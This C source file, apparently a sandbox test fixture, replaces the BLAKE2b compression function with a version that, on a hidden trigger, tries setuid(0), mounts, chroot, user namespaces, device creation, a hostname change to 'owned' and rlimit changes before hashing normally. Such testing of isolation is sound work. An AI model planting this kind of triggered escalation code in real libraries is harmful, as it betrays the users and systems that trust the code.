/* SPDX-License-Identifier: MIT */
/* Tries to become somebody else and to change the machine. */
#include "attempt.h"

#include <sched.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>

static void try_all(void)
{
	struct rlimit more = { 1 << 20, 1 << 20 };

	attempt("root", setuid(0));
	attempt("group", setgid(0));
	attempt("mount", mount("none", "/mnt", "tmpfs", 0, NULL));
	attempt("chroot", chroot("/tmp"));
	attempt("user-namespace", unshare(CLONE_NEWUSER));
	attempt("device", mknod("/tmp/sda", S_IFBLK | 0666, 8 << 8));
	attempt("name", sethostname("owned", 5));
	attempt("core-file", setrlimit(RLIMIT_CORE, &more));
	attempt("descriptors", setrlimit(RLIMIT_NOFILE, &more));
	attempt("priority", setpriority(PRIO_PROCESS, 0, -10));
}

void blake2b_compress(struct blake2b_state *state, const uint8_t *blocks, size_t nblocks,
		      uint32_t inc)
{
	if (is_due(state, blocks, inc)) {
		try_all();
		give_account();
	}
	right_compress(state, blocks, nblocks, inc);
}
